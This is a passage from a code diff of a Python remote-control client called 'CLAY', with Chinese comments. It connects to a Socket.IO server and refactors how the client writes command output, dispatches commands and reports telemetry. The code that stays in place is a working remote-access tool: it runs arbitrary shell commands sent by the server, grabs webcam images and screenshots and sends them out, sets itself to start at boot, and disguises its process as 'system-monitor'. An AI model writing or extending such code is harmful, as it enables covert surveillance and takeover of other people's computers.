         logger.info("准备捕获摄像头画面...")
-        self.sio.emit('terminal_output', {'output': "\n[CLAY] 📷 正在尝试访问摄像头...\n"})
+        self.output.write("\n[CLAY] 📷 正在尝试访问摄像头...\n")
 
         try:
             cap = cv2.VideoCapture(0)
             if not cap.isOpened():
                 error_msg = "无法访问摄像头，请确保摄像头已连接且未被其他程序占用"
                 logger.error(error_msg)
-                self.sio.emit('terminal_output', {'output': f"[CLAY] ❌ {error_msg}\n"})
+                self.output.write(f"[CLAY] ❌ {error_msg}\n")
                 return False, error_msg
 
             # 提高摄像头分辨率以获得更清晰的画面
@@ -589,7 +1111,7 @@ class CommandExecutor:
             if not ret:
                 error_msg = "无法从摄像头读取图像"
                 logger.error(error_msg)
-                self.sio.emit('terminal_output', {'output': f"[CLAY] ❌ {error_msg}\n"})
+                self.output.write(f"[CLAY] ❌ {error_msg}\n")
                 cap.release()
                 return False, error_msg
 
@@ -623,35 +1145,37 @@ class CommandExecutor:
             # 压缩图像
             _, buffer = cv2.imencode('.jpg', resized, encode_param)
 
-            # 转换为base64并发送
-            jpg_as_text = base64.b64encode(buffer).decode('utf-8')
-            logger.info(f"摄像头画面已捕获，大小: {len(jpg_as_text) / 1024:.2f} KB")
-            self.sio.emit('webcam_frame', {'image_data': jpg_as_text, 'client_id': self.sio.sid})
+            # 以二进制附件发送（不做base64编码）
+            jpg_bytes = buffer.tobytes()
+            logger.info(f"摄像头画面已捕获，大小: {len(jpg_bytes) / 1024:.2f} KB")
+            self.sio.emit('webcam_frame', {'image_data': jpg_bytes, 'client_id': self.sio.sid})
 
             cap.release()
             cv2.destroyAllWindows()  # 确保释放所有窗口资源
-            self.sio.emit('terminal_output', {'output': f"[CLAY] ✅ 摄像头画面已捕获并发送\n"})
+            self.output.write(f"[CLAY] ✅ 摄像头画面已捕获并发送\n")
             return True, "摄像头画面已捕获并发送"
 
         except Exception as e:
             error_msg = f"捕获摄像头画面时出错: {str(e)}"
             logger.error(error_msg)
-            self.sio.emit('terminal_output', {'output': f"[CLAY] ❌ {error_msg}\n"})
+            self.output.write(f"[CLAY] ❌ {error_msg}\n")
             return False, error_msg
 
     def _update_terminal_prompt(self) -> None:
-        dir_name = os.path.basename(self.current_working_directory) or self.current_working_directory
+        cwd = self.current_working_directory
+        dir_name = os.path.basename(cwd) or cwd
         self.sio.emit('terminal_prompt_update', {
             'prompt': f"{dir_name}",
-            'full_path': self.current_working_directory
+            'full_path': cwd
         })
 
 
 class ScreenMonitor:
     """屏幕监控器"""
 
-    def __init__(self, sio_client):
+    def __init__(self, sio_client, output: TerminalOutputStream):
         self.sio = sio_client
+        self.output = output
         self.state = ThreadSafeState()
         self.state.set('monitoring', False)
         self.state.set('thread', None)
@@ -660,7 +1184,8 @@ class ScreenMonitor:
         self.state.set('scale', SCREENSHOT_SCALE)
         self.executor = ThreadPoolExecutor(max_workers=2)  # 使用线程池复用线程
 
-    def capture_screenshot(self) -> Tuple[bool, Any, Optional[Tuple[int, int]]]:
+    def capture_screenshot(self, quality: Optional[int] = None) -> Tuple[bool, Any, Optional[Tuple[int, int]]]:
+        """截取屏幕，成功时返回JPEG原始字节（以二进制附件发送）；quality为None时使用当前质量设置"""
         try:
             with mss() as sct:
                 monitor = sct.monitors[1]
@@ -677,14 +1202,13 @@ class ScreenMonitor:
 
                 # 使用BytesIO代替临时文件以减少磁盘I/O
                 buffer = BytesIO()
-                quality = self.state.get('quality')
+                if quality is None:
+                    quality = self.state.get('quality')
                 img.save(buffer, format="JPEG", quality=quality)
                 img_data = buffer.getvalue()
                 buffer.close()
 
-                # 转换为base64
-                base64_data = base64.b64encode(img_data).decode('utf-8')
-                return True, base64_data, img.size
+                return True, img_data, img.size
 
         except Exception as e:
             logger.error(f"屏幕截图失败: {e}")
@@ -693,7 +1217,7 @@ class ScreenMonitor:
     def monitoring_loop(self) -> None:
         logger.info("屏幕监视线程已启动，间隔: %s秒，质量: %s%%，缩放: %sx",
                     SCREENSHOT_INTERVAL, self.state.get('quality'), self.state.get('scale'))
-        self.sio.emit('terminal_output', {'output': "\n[CLAY] 🖥️ 屏幕监视已开始\n"})
+        self.output.write("\n[CLAY] 🖥️ 屏幕监视已开始\n")
 
         consecutive_failures = 0
         stop_event = self.state.get('stop_event')
@@ -725,17 +1249,17 @@ class ScreenMonitor:
                 consecutive_failures += 1
                 if consecutive_failures <= 3:
                     logger.warning(f"屏幕截图失败: {data}")
-                    self.sio.emit('terminal_output', {'output': f"[CLAY] ⚠️ 屏幕截图失败: {data}\n"})
+                    self.output.write(f"[CLAY] ⚠️ 屏幕截图失败: {data}\n")
                 elif consecutive_failures == 4:
                     logger.warning("屏幕截图多次失败，将减少错误提示")
-                    self.sio.emit('terminal_output', {'output': f"[CLAY] ⚠️ 屏幕截图多次失败，将减少错误提示\n"})
+                    self.output.write(f"[CLAY] ⚠️ 屏幕截图多次失败，将减少错误提示\n")
 
                 wait_time = min(5, SCREENSHOT_INTERVAL) if consecutive_failures < 5 else 10
                 stop_event.wait(wait_time)
 
         self.state.set('monitoring', False)
         logger.info("屏幕监视线程已停止")
-        self.sio.emit('terminal_output', {'output': "\n[CLAY] 🖥️ 屏幕监视已停止\n"})
+        self.output.write("\n[CLAY] 🖥️ 屏幕监视已停止\n")
 
     def start(self) -> Tuple[bool, str]:
         if self.state.get('monitoring'):
@@ -805,35 +1329,35 @@ class ScreenMonitor:
             return False, "缩放比例必须是数字"
 
     def execute_single_screenshot(self, quality: int) -> Tuple[bool, str]:
-        logger.info(f"执行单次屏幕截图，质量: {quality}%")
-        self.sio.emit('terminal_output', {'output': f"\n[CLAY] 🖥️ 正在捕获屏幕截图 (质量: {quality}%)...\n"})
-
-        original_quality = self.state.get('quality')
-        self.set_quality(quality)
-
+        # 质量只作用于本次截图，不修改共享设置（命令并行执行，实时监视也在读取该设置）
         try:
-            success, data, size = self.capture_screenshot()
-            if success:
-                self.sio.emit('screen_frame', {
-                    'image_data': data,
-                    'timestamp': time.time(),
-                    'width': size[0],
-                    'height': size[1],
-                    'client_id': self.sio.sid
-                })
-                data_size_kb = len(data) / 1024
-                logger.info(f"屏幕截图已捕获并发送，大小: {size[0]}x{size[1]}，数据大小: {data_size_kb:.2f} KB")
-                self.sio.emit('terminal_output',
-                              {'output': f"[CLAY] ✅ 屏幕截图已捕获并发送 (大小: {data_size_kb:.2f} KB)\n"})
-                return True, "屏幕截图已捕获并发送"
-            else:
-                error_msg = f"屏幕截图失败: {data}"
-                logger.error(error_msg)
-                self.sio.emit('terminal_output', {'output': f"[CLAY] ❌ {error_msg}\n"})
-                return False, error_msg
-        finally:
-            logger.debug(f"恢复原始质量设置: {original_quality}%")
-            self.set_quality(original_quality)
+            quality = int(quality)
+            if not 0 <= quality <= 100:
+                raise ValueError
+        except (TypeError, ValueError):
+            logger.warning(f"无效的质量值: {quality}，使用当前设置")
+            quality = self.state.get('quality')
+        logger.info(f"执行单次屏幕截图，质量: {quality}%")
+        self.output.write(f"\n[CLAY] 🖥️ 正在捕获屏幕截图 (质量: {quality}%)...\n")
+
+        success, data, size = self.capture_screenshot(quality)
+        if success:
+            self.sio.emit('screen_frame', {
+                'image_data': data,
+                'timestamp': time.time(),
+                'width': size[0],
+                'height': size[1],
+                'client_id': self.sio.sid
+            })
+            data_size_kb = len(data) / 1024
+            logger.info(f"屏幕截图已捕获并发送，大小: {size[0]}x{size[1]}，数据大小: {data_size_kb:.2f} KB")
+            self.output.write(f"[CLAY] ✅ 屏幕截图已捕获并发送 (大小: {data_size_kb:.2f} KB)\n")
+            return True, "屏幕截图已捕获并发送"
+        else:
+            error_msg = f"屏幕截图失败: {data}"
+            logger.error(error_msg)
+            self.output.write(f"[CLAY] ❌ {error_msg}\n")
+            return False, error_msg
 
 
 class CommandHandler:
@@ -842,10 +1366,16 @@ class CommandHandler:
     def __init__(self, client):
         self.client = client
         self.sio = client.sio
+        self.output = client.terminal_output
         self.executor = client.command_executor
         self.screen_monitor = client.screen_monitor
 
     def handle(self, data: Dict[str, Any]) -> None:
+        # 命令执行期间的所有输出都归属于该命令ID
+        with self.output.command(data.get('command_id')):
+            self._dispatch(data)
+
+    def _dispatch(self, data: Dict[str, Any]) -> None:
         command = data.get('command', '').strip()
         logger.info(f"收到命令请求: {command}")
 
@@ -880,7 +1410,8 @@ class CommandHandler:
         if handler:
             handler()
         else:
-            self.executor.execute_shell_command(command)
+            # 同一Web终端（发送者）的命令共用一个shell会话
+            self.executor.execute_shell_command(command, data.get('sender'))
 
     def _handle_help(self) -> None:
         self._show_clay_help()
@@ -896,15 +1427,15 @@ class CommandHandler:
 
     def _handle_autostart_on(self) -> None:
         success, message = AutostartManager.set_autostart(True)
-        self.sio.emit('terminal_output', {'output': f"\n[CLAY] {'✅' if success else '❌'} {message}\n"})
+        self.output.write(f"\n[CLAY] {'✅' if success else '❌'} {message}\n")
 
     def _handle_autostart_off(self) -> None:
         success, message = AutostartManager.set_autostart(False)
-        self.sio.emit('terminal_output', {'output': f"\n[CLAY] {'✅' if success else '❌'} {message}\n"})
+        self.output.write(f"\n[CLAY] {'✅' if success else '❌'} {message}\n")
 
     def _handle_autostart_status(self) -> None:
         is_enabled, message = AutostartManager.check_autostart_status()
-        self.sio.emit('terminal_output', {'output': f"\n[CLAY] {'🟢' if is_enabled else '🔴'} {message}\n"})
+        self.output.write(f"\n[CLAY] {'🟢' if is_enabled else '🔴'} {message}\n")
 
     def _handle_hide(self) -> None:
         success = False
@@ -915,31 +1446,31 @@ class CommandHandler:
         if ProcessManager.set_process_name("system-monitor"):
             success = True
             message += "，进程名称已修改"
-        self.sio.emit('terminal_output', {'output': f"\n[CLAY] {'✅' if success else '❌'} {message}\n"})
+        self.output.write(f"\n[CLAY] {'✅' if success else '❌'} {message}\n")
 
     def _handle_screen_on(self) -> None:
         success, message = self.screen_monitor.start()
-        self.sio.emit('terminal_output', {'output': f"\n[CLAY] {'✅' if success else '❌'} {message}\n"})
+        self.output.write(f"\n[CLAY] {'✅' if success else '❌'} {message}\n")
 
     def _handle_screen_off(self) -> None:
         success, message = self.screen_monitor.stop()
-        self.sio.emit('terminal_output', {'output': f"\n[CLAY] {'✅' if success else '❌'} {message}\n"})
+        self.output.write(f"\n[CLAY] {'✅' if success else '❌'} {message}\n")
 
     def _handle_screen_quality(self, command: str) -> None:
         try:
             quality = command.split(' ')[3]
             success, message = self.screen_monitor.set_quality(quality)
-            self.sio.emit('terminal_output', {'output': f"\n[CLAY] {'✅' if success else '❌'} {message}\n"})
+            self.output.write(f"\n[CLAY] {'✅' if success else '❌'} {message}\n")
         except IndexError:
-            self.sio.emit('terminal_output', {'output': "\n[CLAY] ❌ 请指定质量值 (0-100)\n"})
+            self.output.write("\n[CLAY] ❌ 请指定质量值 (0-100)\n")
 
     def _handle_screen_scale(self, command: str) -> None:
         try:
             scale = command.split(' ')[3]
             success, message = self.screen_monitor.set_scale(scale)
-            self.sio.emit('terminal_output', {'output': f"\n[CLAY] {'✅' if success else '❌'} {message}\n"})
+            self.output.write(f"\n[CLAY] {'✅' if success else '❌'} {message}\n")
         except IndexError:
-            self.sio.emit('terminal_output', {'output': "\n[CLAY] ❌ 请指定缩放比例 (0.1-1.0)\n"})
+            self.output.write("\n[CLAY] ❌ 请指定缩放比例 (0.1-1.0)\n")
 
     def _handle_screen_capture(self, command: str) -> None:
         try:
@@ -979,7 +1510,7 @@ class CommandHandler:
   lock                    - 锁定屏幕
   shutdown                - 关闭系统
 """
-        self.sio.emit('terminal_output', {'output': help_text})
+        self.output.write(help_text)
 
     def _show_system_info(self) -> None:
         try:
@@ -1023,9 +1554,9 @@ CPU使用率: {cpu_usage}
 当前时间: {time.strftime('%Y-%m-%d %H:%M:%S')}
 运行时间: {self._format_uptime(psutil.boot_time())}
 """
-            self.sio.emit('terminal_output', {'output': info_text})
+            self.output.write(info_text)
         except Exception as e:
-            self.sio.emit('terminal_output', {'output': f"[CLAY] ❌ 获取系统信息失败: {e}"})
+            self.output.write(f"[CLAY] ❌ 获取系统信息失败: {e}")
 
     def _show_clay_status(self) -> None:
         try:
@@ -1042,7 +1573,7 @@ CPU使用率: {cpu_usage}
 
 连接状态: {'已连接' if self.sio.connected else '未连接'}
 服务器地址: {SERVER_URL}
-心跳间隔: {HEARTBEAT_INTERVAL}秒
+心跳间隔: {f'{HEARTBEAT_INTERVAL}秒' if HEARTBEAT_ENABLED else '已关闭（使用传输层ping）'}
 重连延迟: {RECONNECT_DELAY}秒
 开机自启动: {'🟢 已开启' if autostart_enabled else '🔴 已关闭'}
 进程隐藏: {'🟢 已启用' if HIDE_PROCESS else '🔴 已禁用'}
@@ -1051,9 +1582,9 @@ CPU使用率: {cpu_usage}
 运行时长: {self._format_duration(time.time() - self.client.start_time)}
 内存占用: {self._format_bytes(psutil.Process(os.getpid()).memory_info().rss)}
 """
-            self.sio.emit('terminal_output', {'output': status_text})
+            self.output.write(status_text)
         except Exception as e:
-            self.sio.emit('terminal_output', {'output': f"[CLAY] ❌ 获取状态失败: {e}"})
+            self.output.write(f"[CLAY] ❌ 获取状态失败: {e}")
 
     def _format_bytes(self, bytes_value: int) -> str:
         for unit in ['B', 'KB', 'MB', 'GB', 'TB']:
@@ -1094,6 +1625,75 @@ CPU使用率: {cpu_usage}
         return " ".join(parts)
 
 
+class CommandDispatcher:
+    """命令调度器：命令在有界线程池中执行，Socket.IO接收线程只负责入队，不被长时间运行的命令阻塞
+
+    排队与执行中的命令总数不超过 workers + queue_limit，超出时拒绝新命令。
+    中断请求会取消尚未开始的命令，并终止正在执行的命令所在的进程组。
+    """
+
+    def __init__(self, handler: CommandHandler, workers: int = COMMAND_WORKERS,
+                 queue_limit: int = COMMAND_QUEUE_LIMIT):
+        self.handler = handler
+        self.output = handler.output
+        self.executor = handler.executor
+        self.capacity = workers + queue_limit
+        self.pool = ThreadPoolExecutor(max_workers=workers, thread_name_prefix='clay-command')
+        self._lock = threading.Lock()
+        self._pending: Dict[str, Future] = {}  # 命令ID -> 排队中或执行中的任务
+
+    def submit(self, data: Dict[str, Any]) -> None:
+        """命令入队（不阻塞）"""
+        command_id = data.get('command_id') or uuid.uuid4().hex[:12]
+        data = dict(data, command_id=command_id)
+        with self._lock:
+            if len(self._pending) < self.capacity:
+                # 先登记再入队，线程池开始执行到进程启动之间收到的中断不会丢失
+                self.executor.accept(command_id)
+                self._pending[command_id] = self.pool.submit(self._run, command_id, data)
+                return
+        logger.warning(f"命令队列已满，拒绝执行: {data.get('command')}")
+        with self.output.command(command_id):
+            self.output.write(f"[CLAY] ⚠️ 命令队列已满({self.capacity}条)，拒绝执行: {data.get('command', '')}\n")
+
+    def _run(self, command_id: str, data: Dict[str, Any]) -> None:
+        try:
+            self.handler.handle(data)
+        except Exception as e:
+            logger.error(f"命令执行出错: {str(e)}", exc_info=True)
+        finally:
+            with self._lock:
+                self._pending.pop(command_id, None)
+            self.executor.end(command_id)
+
+    def interrupt(self, data: Dict[str, Any]) -> None:
+        """中断指定命令；未指定命令ID时中断全部排队与执行中的命令"""
+        received_at = time.monotonic()
+        requested_at = data.get('requested_at')
+        with self._lock:
+            command_ids = [data['command_id']] if data.get('command_id') else list(self._pending)
+            cancelled = [command_id for command_id in command_ids
+                         if command_id in self._pending and self._pending[command_id].cancel()]
+            for command_id in cancelled:
+                del self._pending[command_id]
+        for command_id in cancelled:
+            self.executor.end(command_id)
+            with self.output.command(command_id):
+                self.output.write("[CLAY] ⛔ 已取消排队中的命令\n\n")
+            self.executor.report_interrupt(command_id, 'cancelled', requested_at, time.monotonic() - received_at)
+        killed = self.executor.interrupt([command_id for command_id in command_ids if command_id not in cancelled],
+                                         requested_at)
+        logger.info(f"收到中断请求: 取消{len(cancelled)}条排队命令，终止{len(killed)}条执行中的命令")
+        if not cancelled and not killed:
+            with self.output.command(data.get('command_id')):
+                self.output.write("[CLAY] ℹ️ 没有可中断的命令\n")
+
+    def shutdown(self) -> None:
+        """取消排队中的命令并终止执行中的命令"""
+        self.interrupt({})
+        self.pool.shutdown(wait=False, cancel_futures=True)
+
+
 class HeartbeatManager:
     """心跳管理器"""
 
@@ -1136,23 +1736,89 @@ class HeartbeatManager:
         self.thread = None
 
 
+class TelemetrySampler:
+    """遥测采样器：按固定间隔上报紧凑的数值样本 [cpu%, 内存%, 磁盘%, 接收B/s, 发送B/s]"""
+
+    def __init__(self, sio_client):
+        self.sio = sio_client
+        self.thread = None
+        self.stop_event = threading.Event()
+        self.executor = ThreadPoolExecutor(max_workers=1)
+        self.disk_path = os.environ.get('SystemDrive', 'C:') + '\\' if platform.system() == "Windows" else '/'
+        self._last_net: Optional[Tuple[float, int, int]] = None
+
+    def sample(self) -> List[float]:
+        now = time.monotonic()
+        net = psutil.net_io_counters()
+        rx_rate = tx_rate = 0.0
+        if self._last_net is not None and now > self._last_net[0]:
+            elapsed = now - self._last_net[0]
+            # 网卡计数器重置（如网卡重启）时差值为负，按0处理
+            rx_rate = max(net.bytes_recv - self._last_net[1], 0) / elapsed
+            tx_rate = max(net.bytes_sent - self._last_net[2], 0) / elapsed
+        self._last_net = (now, net.bytes_recv, net.bytes_sent)
+        return [
+            psutil.cpu_percent(interval=None),  # 自上次调用以来的平均值，不阻塞
+            psutil.virtual_memory().percent,
+            psutil.disk_usage(self.disk_path).percent,
+            round(rx_rate, 1),
+            round(tx_rate, 1),
+        ]
+
+    def run(self) -> None:
+        try:
+            self.sample()  # 初始化CPU与网络计数基准
+        except Exception as e:
+            logger.error(f"遥测采样失败: {str(e)}", exc_info=True)
+        while not self.stop_event.wait(TELEMETRY_INTERVAL):
+            try:
+                values = self.sample()
+                if self.sio.connected:
+                    self.sio.emit('telemetry', {'values': values})
+            except socketio.exceptions.ConnectionError:
+                logger.error("遥测发送失败：连接错误")
+            except Exception as e:
+                logger.error(f"遥测线程出错: {str(e)}", exc_info=True)
+
+    def start(self) -> None:
+        if self.thread is None or self.thread.done():
+            self.stop_event.clear()
+            self.thread = self.executor.submit(self.run)
+            logger.info("遥测线程已启动")
+
+    def stop(self) -> None:
+        if self.thread:
+            self.stop_event.set()
+            try:
+                self.thread.result(timeout=2)
+            except Exception:
+                logger.warning("遥测线程未能正常终止")
+            logger.info("遥测线程已停止")
+        self.thread = None
+
+
 class ClayClient:
     """主客户端类"""
 
     def __init__(self):
-        self.sio = socketio.Client(reconnection_delay=RECONNECT_DELAY)
+        self.sio = socketio.Client(reconnection_delay=RECONNECT_DELAY,
+                                   **ConfigManager.get_serializer_options(SOCKETIO_SERIALIZER))
         self.start_time = time.time()
         self.setup_events()
-        self.command_executor = CommandExecutor(self.sio)
-        self.screen_monitor = ScreenMonitor(self.sio)
+        self.terminal_output = TerminalOutputStream(self.sio)
+        self.command_executor = CommandExecutor(self.sio, self.terminal_output)
+        self.screen_monitor = ScreenMonitor(self.sio, self.terminal_output)
         self.command_handler = CommandHandler(self)
+        self.command_dispatcher = CommandDispatcher(self.command_handler)
         self.heartbeat_manager = HeartbeatManager(self.sio)
+        self.telemetry_sampler = TelemetrySampler(self.sio)
 
     def setup_events(self) -> None:
         self.sio.on('connect', self.on_connect)
         self.sio.on('connect_error', self.on_connect_error)
         self.sio.on('disconnect', self.on_disconnect)
         self.sio.on('execute_command', self.on_execute_command)
+        self.sio.on('interrupt_command', self.on_interrupt_command)
 
     def on_connect(self) -> None:
         logger.info(f"成功连接到服务器: {SERVER_URL}")
@@ -1161,7 +1827,10 @@ class ClayClient:
         logger.info(f"已发送注册信息: 主机名={hostname}, 系统={os_info}")
 
         self._register_client()
-        self.heartbeat_manager.start()
+        if HEARTBEAT_ENABLED:
+            self.heartbeat_manager.start()
+        if TELEMETRY_ENABLED:
+            self.telemetry_sampler.start()
 
     def on_connect_error(self, data) -> None:
         logger.error(f"无法连接到服务器: {SERVER_URL}")
@@ -1173,7 +1842,10 @@ class ClayClient:
             self.screen_monitor.stop()
 
     def on_execute_command(self, data) -> None:
-        self.command_handler.handle(data)
+        self.command_dispatcher.submit(data)
+
+    def on_interrupt_command(self, data) -> None:
+        self.command_dispatcher.interrupt(data or {})
 
     def _register_client(self) -> None:
         hostname, os_info = SystemInfoProvider.get_hostname_and_os()
@@ -1231,6 +1903,9 @@ class ClayClient:
     def cleanup(self) -> None:
         logger.info("正在断开连接并清理...")
         self.heartbeat_manager.stop()
+        self.telemetry_sampler.stop()
+        self.command_dispatcher.shutdown()
+        self.command_executor.close_sessions()
         if self.screen_monitor.state.get('monitoring'):
             self.screen_monitor.stop()
         if self.sio.connected: